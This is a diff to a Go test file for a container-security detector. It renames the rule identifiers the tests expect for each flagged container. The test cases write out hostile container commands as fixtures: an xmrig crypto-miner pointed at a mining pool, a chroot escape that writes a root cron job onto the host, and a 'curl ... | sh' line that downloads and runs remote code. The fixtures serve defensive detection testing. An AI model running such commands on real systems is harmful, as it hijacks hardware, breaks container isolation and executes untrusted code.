@@ -109,12 +109,12 @@ func TestServerContainerCommands(t *testing.T) {
 		rule               string
 		level              detect.Level
 	}{
-		{"miner", `{"Path":"/xmrig","Args":["-o","stratum+tcp://pool.example:3333","-u","x"]}`, `{"RestartPolicy":{"Name":"always"}}`, "container_miner", detect.Critical},
-		{"miner by its environment", `{"Path":"/run.sh","Config":{"Env":["POOL=stratum+tcp://pool.example:3333"]}}`, `{}`, "container_miner", detect.Critical},
-		{"way out with a cron job", `{"Path":"chroot","Args":["/mnt","sh","-c","echo '* * * * * root /x' > /etc/cron.d/x"]}`, `{"Binds":["/:/mnt"]}`, "container_command", detect.High},
+		{"miner", `{"Path":"/xmrig","Args":["-o","stratum+tcp://pool.example:3333","-u","x"]}`, `{"RestartPolicy":{"Name":"always"}}`, "act_miner_args", detect.Critical},
+		{"miner by its environment", `{"Path":"/run.sh","Config":{"Env":["POOL=stratum+tcp://pool.example:3333"]}}`, `{}`, "act_miner_args", detect.Critical},
+		{"way out with a cron job", `{"Path":"chroot","Args":["/mnt","sh","-c","echo '* * * * * root /x' > /etc/cron.d/x"]}`, `{"Binds":["/:/mnt"]}`, "act_cron_write", detect.High},
 		{"the root directory entered", `{"Path":"chroot","Args":["/mnt","sh"]}`, `{"Binds":["/:/mnt"]}`, "container_host_root", detect.Medium},
-		{"download", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{}`, "container_download", detect.Medium},
-		{"download with privileges", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{"Privileged":true}`, "container_command", detect.High},
+		{"download", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{}`, "act_pipe_to_shell", detect.Medium},
+		{"download with privileges", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{"Privileged":true}`, "act_pipe_to_shell", detect.High},
 		{"agent", `{"Path":"/agent"}`, `{"Privileged":true,"PidMode":"host","Binds":["/:/host:ro","/var/run/docker.sock:/var/run/docker.sock"]}`, "container_privileged", detect.Low},
 		{"web server", `{"Path":"nginx","Args":["-g","daemon off;"],"Config":{"Env":["DB_HOST=db:5432","DB_USER=web"]}}`, `{"RestartPolicy":{"Name":"always"},"NetworkMode":"bridge"}`, "", detect.None},
 		{"entrypoint of an image", `{"Path":"docker-entrypoint.sh","Args":["postgres"]}`, `{"Binds":["/srv/db:/var/lib/postgresql"]}`, "", detect.None},
@@ -160,7 +160,7 @@ func TestServerEntrypoint(t *testing.T) {
 		found := false
 		for i := range a.Findings {
 			f := &a.Findings[i]
-			found = found || f.Rule == "started_script_miner" && f.Source.Path == tt.at && f.Level == detect.Critical
+			found = found || f.Rule == "act_miner_args" && f.Source.Path == tt.at && f.Level == detect.Critical
 		}
 		if found != tt.found {
 			t.Errorf("%s: found is %t: %v", tt.name, found, claims(a))
